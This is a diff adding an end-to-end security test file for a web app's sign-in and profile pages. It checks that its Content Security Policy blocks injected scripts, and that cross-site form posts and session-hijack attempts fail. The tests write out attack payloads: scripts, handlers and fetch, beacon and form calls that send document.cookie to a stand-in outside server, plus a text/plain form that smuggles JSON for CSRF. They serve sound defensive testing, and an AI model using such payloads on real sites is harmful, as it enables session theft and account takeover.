@@ -1,0 +1,284 @@
+// What a script could do that got into a page and does not belong there: run nothing of its own, call nobody, not take the
+// session along, and change nothing that has to be proved again. And who is let in: the maps service, only with a key.
+import { once } from "node:events";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
+import { openPhone, type Phone } from "#pwa/e2e/openPhone";
+import { signIn } from "#pwa/e2e/signIn";
+import { type Sahn, startSahn } from "#pwa/e2e/startSahn";
+import { addressWords } from "#pwa/words/form";
+import { profileWords } from "#pwa/words/profile";
+
+type Guarded = { ran: string[]; refused: string[] };
+
+const email = "mariam@harbourline.example";
+let sahn: Sahn;
+let phone: Phone;
+let ends: (() => Promise<void>)[];
+
+async function open(story: string) {
+  phone = await openPhone(`guarded/${story}`, { width: 1280, height: 800 });
+  ends.push(() => phone.end());
+}
+
+beforeAll(async () => {
+  sahn = await startSahn("guarded");
+});
+beforeEach(() => {
+  ends = [];
+});
+afterEach(async ({ task }) => {
+  if (task.result?.state === "fail") await phone?.snap("failed");
+  for (const end of ends.reverse()) await end();
+});
+afterAll(() => sahn?.end());
+
+/** A server of somebody else, on another site than the app's: it hears whatever reaches it, and says one thing. */
+async function anotherSite(says: string) {
+  const heard: string[] = [];
+  const server = createServer((request, answer) => {
+    heard.push(request.url ?? "");
+    answer.writeHead(200, { "Content-Type": request.url === "/" ? "text/html" : "text/javascript" }).end(says);
+  }).listen(0, "127.0.0.1");
+  await once(server, "listening");
+  ends.push(async () => void server.close());
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
+}
+
+/** Whatever a page can read without asking the server. */
+const everythingKept = () =>
+  phone.page.evaluate(async () => {
+    const found = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.URL];
+    found.push(document.documentElement.outerHTML);
+    for (const { name } of await indexedDB.databases()) {
+      const db = await new Promise<IDBDatabase>((done, failed) => {
+        const asked = indexedDB.open(name ?? "");
+        asked.onsuccess = () => done(asked.result);
+        asked.onerror = () => failed(asked.error);
+      });
+      for (const store of db.objectStoreNames) {
+        const rows = await new Promise((done, failed) => {
+          const asked = db.transaction(store).objectStore(store).getAll();
+          asked.onsuccess = () => done(asked.result);
+          asked.onerror = () => failed(asked.error);
+        });
+        found.push(JSON.stringify(rows));
+      }
+      db.close();
+    }
+    for (const name of await caches.keys()) {
+      const cache = await caches.open(name);
+      for (const request of await cache.keys())
+        found.push(request.url, (await (await cache.match(request))?.text()) ?? "");
+    }
+    return found;
+  });
+
+test("the session cannot be read, and no foreign code runs or reaches anybody", async () => {
+  await open("thief");
+  await signIn(sahn, phone, email);
+  await phone.page.goto(`${sahn.url}/dashboard/profile`);
+  await phone.page.getByRole("heading", { name: profileWords.title, exact: true }).waitFor();
+  const { page, context } = phone;
+
+  const session = (await context.cookies()).find(({ httpOnly }) => httpOnly);
+  const token = (await context.cookies()).find(({ name }) => name === "XSRF-TOKEN");
+  expect(session?.value).toMatch(/^[\w-]{43}$/);
+  const all = await everythingKept();
+  expect(all.filter((text) => text.includes(token?.value ?? "?"))).toEqual([all[0]]); // what can be read is found
+  expect(all.filter((text) => text.includes(session?.value ?? ""))).toEqual([]);
+  expect(all[0]).not.toContain(session?.name);
+
+  const { url: elsewhere, heard } = await anotherSite("ran.push('elsewhere')");
+  expect((await fetch(`${elsewhere}/hears`)).ok).toBe(true);
+
+  await page.evaluate((elsewhere) => {
+    const world = window as unknown as Guarded;
+    world.ran = [];
+    world.refused = [];
+    document.addEventListener("securitypolicyviolation", (event) => world.refused.push(event.effectiveDirective));
+    const put = (tag: string, given: Record<string, string>, text = "") => {
+      const made = document.createElement(tag);
+      for (const [name, value] of Object.entries(given)) made.setAttribute(name, value);
+      made.textContent = text;
+      return document.body.appendChild(made);
+    };
+    put("script", {}, "ran.push('inline')");
+    put("script", { src: `${elsewhere}/script.js` });
+    put("script", { src: "data:text/javascript,ran.push('data')" });
+    put("img", { src: "/nothing.png", onerror: "ran.push('handler')" });
+    put("img", { src: `${elsewhere}/leak.png` });
+    put("iframe", { src: `${elsewhere}/frame` });
+    put("object", { data: `${elsewhere}/object` });
+    put("link", { rel: "stylesheet", href: `${elsewhere}/leak.css` });
+    put("base", { href: elsewhere });
+    put("a", { href: "javascript:ran.push('link')" }).click();
+    setTimeout("ran.push('text')" as unknown as () => void, 0);
+    fetch(`${elsewhere}/fetch`, { method: "POST", mode: "no-cors", body: document.cookie }).catch(() => undefined);
+    navigator.sendBeacon(`${elsewhere}/beacon`, document.cookie);
+    new WebSocket(`${elsewhere.replace("http", "ws")}/socket`);
+    (put("form", { action: `${elsewhere}/form`, method: "post" }) as HTMLFormElement).submit();
+  }, elsewhere);
+  const guarded = () =>
+    page.evaluate(() => {
+      const { ran, refused } = window as unknown as Guarded;
+      return { ran, refused: [...new Set(refused)].sort() };
+    });
+  const code = ["script-src", "script-src-attr", "script-src-elem"];
+  const ways = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src", "style-src-elem"];
+  await expect.poll(guarded, { timeout: 15_000 }).toEqual({ ran: [], refused: [...code, ...ways].sort() });
+  expect(heard).toEqual(["/hears"]);
+  expect(page.url()).toBe(`${sahn.url}/dashboard/profile`);
+
+  // Every other story fails when the browser says one such word: here it must have.
+  ends.shift();
+  await expect(phone.end()).rejects.toThrow(/Content Security Policy/);
+});
+
+test("another site signs nobody in or out and changes nothing, whoever is signed in here", async () => {
+  await open("another-site");
+  phone.expect(419, 404); // an answer that is no page has no icon
+  const { page, context } = phone;
+  const { url: elsewhere } = await anotherSite("<!doctype html><title>Win a lunch</title>");
+  // A form can send JSON: what stands between name and value falls into a field that takes anything.
+  const [name, value] = [`{"email":"omar@harbourline.example","company_id":"`, `","password":"lunch-is-served"}`];
+  const session = async () => (await context.cookies(sahn.url)).find(({ httpOnly }) => httpOnly)?.value;
+  const send = async (path: string, name: string, value: string) => {
+    await page.goto(`${elsewhere}/`);
+    const answered = page.waitForResponse((answer) => answer.url() === `${sahn.url}${path}`);
+    await page.evaluate(
+      ([action, name, value]) => {
+        const form = Object.assign(document.createElement("form"), { method: "POST", enctype: "text/plain", action });
+        form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
+        document.body.append(form);
+        form.submit();
+      },
+      [`${sahn.url}${path}`, name, value] as const,
+    );
+    expect((await answered).status()).toBe(419);
+    await page.waitForURL(`${sahn.url}${path}`);
+    await page.goto(`${elsewhere}/`);
+    await page.evaluate(
+      async ([url, body]) => {
+        await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body });
+        await fetch(url, { method: "POST", mode: "no-cors", body });
+      },
+      [`${sahn.url}${path}`, `${name}=${value}`] as const,
+    );
+  };
+  const tries: [string, string, string][] = [
+    ["/api/profile-login", name, value],
+    ["/api/login-otp", `{"email":"omar@harbourline.example`, `"}`],
+    ["/api/profile-logout", "", ""],
+    ["/api/update-profile", `{"name":"`, `"}`],
+  ];
+  for (const one of tries) await send(...one);
+  expect(await session()).toBeUndefined();
+
+  await signIn(sahn, phone, email);
+  const mine = await session();
+  const profile = () => page.evaluate(async () => (await fetch("/api/get-profile")).text());
+  const before = await profile();
+  expect(before).toContain(email);
+  for (const one of tries) await send(...one);
+  expect(await session()).toBe(mine);
+  await page.goto(`${sahn.url}/healthz`);
+  expect(await profile()).toBe(before);
+
+  // The same words from our own page, with the token, are understood: it was where they came from.
+  const understood = await page.evaluate(async (body) => {
+    const token = decodeURIComponent(/XSRF-TOKEN=([^;]*)/.exec(document.cookie)?.[1] ?? "");
+    return (await fetch("/api/profile-login", { method: "POST", headers: { "X-XSRF-TOKEN": token }, body })).status;
+  }, `${name}=${value}`);
+  expect(understood).toBe(201);
+  expect(await profile()).toContain("omar@harbourline.example");
+});
+
+test("with the session and its token in hand nothing changes that has to be proved again", async () => {
+  await open("hijack");
+  phone.expect(422);
+  await signIn(sahn, phone, email);
+  const attempts: [string, Record<string, unknown>][] = [
+    ["/api/change-password", { password: "a password of the thief" }],
+    ["/api/change-password", { current_password: "", password: "a password of the thief" }],
+    ["/api/change-password", { current_password: "perhaps this one", password: "a password of the thief" }],
+    ["/api/update-profile", { email: "thief@evil.example" }],
+    ["/api/update-profile", { password: "a password of the thief" }],
+    ["/api/delete-account", {}],
+    ["/api/delete-account", { password: "perhaps this one" }],
+    ["/api/client/forgot-password/reset", { email, otp: "000000", password: "a password of the thief" }],
+  ];
+  const answers = await phone.page.evaluate(async (tries) => {
+    const token = decodeURIComponent(/XSRF-TOKEN=([^;]*)/.exec(document.cookie)?.[1] ?? "");
+    const headers = { "Content-Type": "application/json", "X-XSRF-TOKEN": token };
+    const statuses: number[] = [];
+    for (const [path, body] of tries) {
+      statuses.push((await fetch(path, { method: "POST", headers, body: JSON.stringify(body) })).status);
+    }
+    const own = await fetch("/api/update-profile", {
+      method: "POST",
+      headers,
+      body: JSON.stringify({ name: "Mariam A" }),
+    });
+    return { statuses, own: own.status };
+  }, attempts);
+  expect(answers).toEqual({ statuses: attempts.map(() => 422), own: 200 });
+});
+
+/** The registration of a cash client, with a field for their street. */
+async function street() {
+  const asked = new Set<string>();
+  phone.context.on("request", (request) => asked.add(new URL(request.url()).origin));
+  await phone.page.goto(`${sahn.url}/register`);
+  const field = phone.page.getByLabel(addressWords.line, { exact: true });
+  await field.waitFor();
+  return { field, asked };
+}
+
+test("without a key for maps an address is a plain line, and nobody else is asked anything", async () => {
+  await open("no-maps");
+  const { field, asked } = await street();
+  expect(await field.getAttribute("role")).toBe(null);
+  await field.pressSequentially("Marasi Drive");
+  await phone.page.getByLabel(addressWords.label, { exact: true }).fill("Home");
+  expect([...asked]).toEqual([sahn.url]);
+});
+
+test("with a key the places library is let in and answers, and nothing else is", async () => {
+  await sahn.end();
+  sahn = await startSahn("guarded-maps", { MAPS_KEY: "key-of-this-test" });
+  await open("maps");
+  const loads: URL[] = [];
+  await phone.context.route("https://maps.googleapis.com/**", async (route) => {
+    const url = new URL(route.request().url());
+    loads.push(url);
+    await route.fulfill({ contentType: "text/javascript", body: library(url.searchParams.get("callback") ?? "") });
+  });
+  await phone.context.route("https://places.googleapis.com/**", (route) =>
+    route.fulfill({ headers: { "Access-Control-Allow-Origin": "*" }, json: ["Marasi Drive, Business Bay"] }),
+  );
+  const { field, asked } = await street();
+  await field.pressSequentially("Marasi");
+  await phone.page.getByRole("option", { name: "Marasi Drive, Business Bay", exact: true }).click();
+  await expect.poll(() => field.inputValue()).toBe("Marasi Drive, Business Bay");
+  expect(loads.map((url) => url.searchParams.get("key"))).toEqual(["key-of-this-test"]);
+  const others = ["https://maps.googleapis.com", "https://places.googleapis.com"];
+  expect([...asked].sort()).toEqual([sahn.url, ...others].sort());
+});
+
+/** What stands in for the service's script: it asks the places service, as the real one does. */
+const library = (callback: string) => `
+  window.google = { maps: { importLibrary: async () => ({
+    AutocompleteSessionToken: class {},
+    AutocompleteSuggestion: {
+      fetchAutocompleteSuggestions: async () => {
+        const found = await (await fetch("https://places.googleapis.com/v1/places:autocomplete", { method: "POST", body: "{}" })).json();
+        return { suggestions: found.map((text, i) => ({ placePrediction: {
+          placeId: String(i), text, toPlace: () => ({ fetchFields: async () => {}, formattedAddress: text }),
+        } })) };
+      },
+    },
+  }) } };
+  window["${callback}"]();
+`;
